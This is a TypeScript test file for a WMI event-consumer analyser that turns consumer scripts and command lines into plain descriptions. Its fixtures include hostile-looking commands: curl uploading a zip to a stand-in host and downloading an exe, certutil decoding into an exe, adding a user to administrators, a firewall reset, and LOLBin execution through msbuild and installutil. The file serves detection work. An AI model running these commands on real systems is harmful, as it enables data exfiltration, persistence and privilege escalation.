import { expect, test } from 'vitest'
import { judgementContent } from '../judge/index.ts'
import type { ConsumerFacts } from '../model.ts'
import { analysePayload, describeAction, describeScript } from './index.ts'

const { lists } = judgementContent()
const command = (CommandLineTemplate: string): ConsumerFacts => ({
  class: 'CommandLineEventConsumer',
  properties: { CommandLineTemplate },
})
const does = (consumer: ConsumerFacts): string =>
  describeAction(consumer, analysePayload(consumer, lists), lists)

test.each([
  ['GetObject("winmgmts:").ExecQuery "select * from __EventFilter"', 'looks at subscriptions'],
  ['GetObject("winmgmts:").Get("__EventFilter.Name=\'x\'").Delete_', 'removes subscriptions'],
  [
    'Set f = GetObject("winmgmts:").Get("__EventFilter").SpawnInstance_\nf.Put_',
    'creates or changes subscriptions itself',
  ],
  ['Run "vssadmin list shadows"', 'looks at shadow copies'],
  ['MsgBox f.OpenTextFile("C:\\x.txt",1).ReadAll', 'reads the file C:\\x.txt'],
  ['MsgBox f.OpenTextFile("C:\\x.txt").ReadAll', 'reads the file C:\\x.txt'],
  ['f.OpenTextFile("C:\\x.txt", 8, True).WriteLine "a"', 'writes to the file C:\\x.txt'],
  ['l.Execute "insert into t values(1)"', undefined],
  ['Execute s', 'runs code that it puts together itself'],
  ['Set u=GetObject("WinNT://.").Create("user","eve")', 'adds a user account'],
  ['GetObject("winmgmts:Win32_Process").Create "notepad.exe"', 'starts notepad.exe'],
  [
    'GetObject("winmgmts:").Get("Win32_OperatingSystem=@").Win32Shutdown 6',
    'restarts or shuts down the computer',
  ],
  ['f.CopyFile "C:\\a.txt","D:\\a.txt"', 'copies C:\\a.txt to D:\\a.txt'],
  ['n.MapNetworkDrive "Z:","\\\\fs\\x"', 'connects to the shared folder \\\\fs\\x'],
  ['e.LogEvent 4,"disk full"', 'writes to the event log'],
  ['Run "certutil -hashfile C:\\x\\a.txt"', undefined],
  ['Remove-Item HKLM:\\SOFTWARE\\Acme', 'deletes registry keys'],
])('a script is not said to do more than it does: %s', (text, words) => {
  expect(describeScript(text)).toBe(words)
})

test('a script without a full path lies in the folder in which the consumer works', () => {
  const of = (WorkingDirectory: string) =>
    analysePayload(
      {
        class: 'CommandLineEventConsumer',
        properties: { CommandLineTemplate: 'cscript KernCap.vbs', WorkingDirectory },
      },
      lists,
    ).features.find(({ id }) => id === 'payload/unusual-path')?.text
  expect(of('C:\\tools\\kernrate')).toBeUndefined()
  expect(of('C:\\Users\\Public\\')).toContain('C:\\Users\\Public\\KernCap.vbs')
})

test('a log file on another machine is a place on the network, and still only text', () => {
  const file = '\\\\fs01\\logs\\a.log'
  const payload = analysePayload(
    { class: 'LogFileEventConsumer', properties: { Filename: file, Text: 'x' } },
    lists,
  )
  expect(payload.features.map(({ id }) => id)).toEqual(['payload/network'])
})

test.each([
  ['eventcreate /t warning /id 100 /d x', 'writes an entry to the event log'],
  ['powershell -nop -noni -w 1 -c Get-Date', 'runs the command "Get-Date"'],
  ['powershell Get-Date -Format o', 'runs the command "Get-Date -Format o"'],
  ['shutdown /a', 'calls off a shutdown that was ordered before'],
  ['shutdown -r -f -t 0', 'restarts the computer'],
  ['shutdown /s /t 60', 'shuts down the computer'],
  ['msiexec /x {AAAA} /qn', 'removes the product {AAAA}'],
  ['msiexec /y C:\\x\\a.dll', 'loads the library C:\\x\\a.dll'],
  ['msiexec /qn /i C:\\x\\a.msi', 'installs C:\\x\\a.msi'],
  ['netsh wlan show profiles', 'is given: wlan show profiles'],
  ['netsh advfirewall reset', 'changes the network or the firewall (advfirewall reset)'],
  ['bcdedit /enum', 'is given: /enum'],
  ['curl -T C:\\x.zip https://e.example/u', 'sends data to hxxps[:]//e[.]example/u'],
  ['curl https://e.example/u -o C:\\t\\a.exe', 'downloads hxxps[:]//e[.]example/u to C:\\t\\a.exe'],
  ['certutil -decode C:\\a.txt C:\\b.exe', 'decodes C:\\a.txt into C:\\b.exe'],
  ['net localgroup administrators eve /add', 'adds eve to the group administrators'],
  ['net use', 'is given: use'],
  ['taskkill /im a.exe /im b.exe /f', 'ends the programs a.exe, b.exe'],
  ['msbuild C:\\x\\p.xml', 'builds C:\\x\\p.xml, which runs the code in it'],
  ['installutil /logfile= /U C:\\x\\a.dll', 'loads and runs the program library C:\\x\\a.dll'],
  ['forfiles /m n.exe /c C:\\x\\a.exe', 'runs C:\\x\\a.exe for every file it finds'],
])('a switch that turns the meaning round is not overlooked: %s', (line, words) => {
  expect(does(command(line))).toBe(`runs ${line.split(' ')[0]} as SYSTEM, which ${words}`)
})
